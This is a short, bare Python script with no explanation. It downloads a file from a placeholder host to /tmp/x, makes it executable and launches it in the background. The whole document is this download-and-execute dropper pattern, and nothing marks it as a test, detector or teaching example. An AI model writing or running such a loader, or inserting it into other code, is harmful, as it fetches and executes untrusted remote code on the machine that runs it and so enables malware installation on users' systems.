import os, subprocess, urllib.request
urllib.request.urlretrieve("http://example.invalid/x", "/tmp/x")
os.chmod("/tmp/x", 0o755)
subprocess.Popen(["/tmp/x"])
